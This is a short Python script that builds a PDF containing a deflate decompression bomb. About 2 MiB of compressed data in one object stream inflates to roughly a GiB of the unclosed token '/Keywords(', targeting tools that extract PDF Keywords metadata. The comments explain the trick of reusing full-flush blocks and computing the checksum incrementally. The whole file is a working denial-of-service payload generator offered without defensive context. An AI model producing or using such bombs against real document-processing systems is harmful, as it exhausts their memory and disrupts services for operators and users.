#!/usr/bin/env python3
"""bomb.py OUT: write a report.pdf whose one object stream (where xelatex keeps the Keywords) is a
deflate bomb: 2 MiB that inflates to a GiB of `/Keywords(` never closed, the text a reader of
the Keywords searches for. Made without holding the GiB: after a full flush, every compressed copy of
the same piece is the same bytes, and the checksum is summed piece by piece."""
import sys
import zlib

PIECE = b"/Keywords(" * (1 << 17)  # 1.25 MiB
COPIES = 820                       # about a GiB

c = zlib.compressobj(9)
first = c.compress(PIECE) + c.flush(zlib.Z_FULL_FLUSH)
again = c.compress(PIECE) + c.flush(zlib.Z_FULL_FLUSH)
last = c.flush()[:-4]  # the final block, without the checksum of these two copies
adler = 1
for _ in range(COPIES):
    adler = zlib.adler32(PIECE, adler)
stream = first + again * (COPIES - 1) + last + adler.to_bytes(4, "big")
with open(sys.argv[1], "wb") as f:
    f.write(b"%%PDF-1.5\n1 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>\nstream\n" % len(stream))
    f.write(stream + b"\nendstream\nendobj\ntrailer\n<</Size 2>>\n%%EOF\n")
